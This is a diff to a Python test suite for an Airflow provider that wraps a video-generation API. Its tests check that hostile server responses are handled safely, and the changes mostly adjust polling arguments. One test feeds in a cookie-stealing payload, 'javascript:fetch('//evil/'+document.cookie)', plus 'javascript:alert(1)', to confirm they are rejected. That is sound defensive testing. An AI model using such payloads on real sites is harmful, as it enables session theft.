@@ -23,7 +23,6 @@ from typing import Any
 
 import pytest
 
-from airflow_provider_kirin.download import safe_name
 from airflow_provider_kirin.exceptions import (
     KirinBadResponseError,
     KirinError,
@@ -35,6 +34,7 @@ from airflow_provider_kirin.exceptions import (
     KirinValidationError,
 )
 from airflow_provider_kirin.hooks.kirin import KirinAsyncHook, KirinHook
+from airflow_provider_kirin.io.storage import safe_name
 from airflow_provider_kirin.links.kirin import KirinVideoLink
 from airflow_provider_kirin.operators.download import KirinDownloadVideoOperator
 from airflow_provider_kirin.triggers.kirin import KirinTaskTrigger
@@ -310,7 +310,7 @@ def test_wait_for_task_ends_by_its_deadline_against_a_drip(hostile: Callable[...
     hostile(drip_task())  # request_timeout stays at its default of 60 s: the wait's deadline clips it
     started = time.monotonic()
     with pytest.raises(KirinTaskTimeoutError):
-        KirinHook().wait_for_task("kt_1", poll_interval=0.5, timeout=3)
+        KirinHook().wait_for_task("kt_1", poll_interval=0.5, timeout=3, first_poll_delay=0)
     assert time.monotonic() - started < 3 + 1 + SLACK  # 1 s: the least a last check gets
 
 
@@ -356,7 +356,7 @@ async def test_a_key_echoed_in_the_task_id_goes_nowhere(
     async with KirinAsyncHook() as hook:
         with pytest.raises(KirinBadResponseError) as async_error:
             await hook.get_task("kt_1")
-    (event,) = await run_trigger(KirinTaskTrigger("kt_1", poll_interval=0.1, max_consecutive_errors=1))
+    (event,) = await run_trigger(KirinTaskTrigger("kt_1", poll_interval=0.1, max_poll_error_seconds=0))
     operator = KirinDownloadVideoOperator(task_id="keep", kirin_task_id="kt_1", destination=str(tmp_path))
     with pytest.raises(KirinBadResponseError) as operator_error:
         operator.execute(context={})  # type: ignore[arg-type]
@@ -380,7 +380,7 @@ async def test_sync_and_async_read_the_same_clean_task(
         )
     ).replace(json.dumps(ESCAPED_KEY), f'"{ESCAPED_KEY}"')
     hostile(lambda exchange: exchange.raw_json(raw))
-    sync_task = KirinHook().wait_for_task("kt_1", poll_interval=0.1, timeout=5)
+    sync_task = KirinHook().wait_for_task("kt_1", poll_interval=0.1, timeout=5, first_poll_delay=0)
     async with KirinAsyncHook() as hook:
         async_task = await hook.get_task("kt_1")
     (event,) = await run_trigger(KirinTaskTrigger("kt_1", poll_interval=0.1))
@@ -473,7 +473,7 @@ def _short(exchange: Exchange, data: bytes, headers: dict[str, str]) -> None:
 def test_a_javascript_url_is_no_video_link_or_download(hostile: Callable[..., HostileServer]) -> None:
     hostile(lambda exchange: exchange.json(with_video("javascript:fetch('//evil/'+document.cookie)")))
     with pytest.raises(KirinResultParsingError, match="no video URL"):
-        KirinHook().wait_for_task("kt_1", poll_interval=0.1, timeout=5)
+        KirinHook().wait_for_task("kt_1", poll_interval=0.1, timeout=5, first_poll_delay=0)
     operator = SimpleNamespace(kirin_video_url="javascript:alert(1)")
     assert KirinVideoLink().get_link(operator, ti_key=None) == ""  # type: ignore[arg-type]
     operator.kirin_video_url = "https://cdn.example.com/v.mp4"
@@ -488,7 +488,7 @@ async def test_a_dot_task_id_never_reaches_a_url_path(
     with pytest.raises(KirinBadResponseError, match="not a plain identifier"):
         KirinHook().create_task("a fox")
     with pytest.raises(KirinValidationError):
-        KirinHook().wait_for_task(task_id, poll_interval=0.1, timeout=2)
+        KirinHook().wait_for_task(task_id, poll_interval=0.1, timeout=2, first_poll_delay=0)
     async with KirinAsyncHook() as hook:
         with pytest.raises(KirinValidationError):
             await hook.get_task(task_id)
@@ -500,7 +500,7 @@ def test_error_text_and_codes_are_capped(hostile: Callable[..., HostileServer]) 
     failed = envelope(status="failed", error={"code": "E" * 100_000, "error_message": "m" * 2_000_000})
     hostile(lambda exchange: exchange.json(failed))
     with pytest.raises(KirinTaskFailedError) as caught:
-        KirinHook().wait_for_task("kt_1", poll_interval=0.1, timeout=5)
+        KirinHook().wait_for_task("kt_1", poll_interval=0.1, timeout=5, first_poll_delay=0)
     assert len(str(caught.value)) < 2_000
     assert caught.value.code is not None
     assert len(caught.value.code) < 120
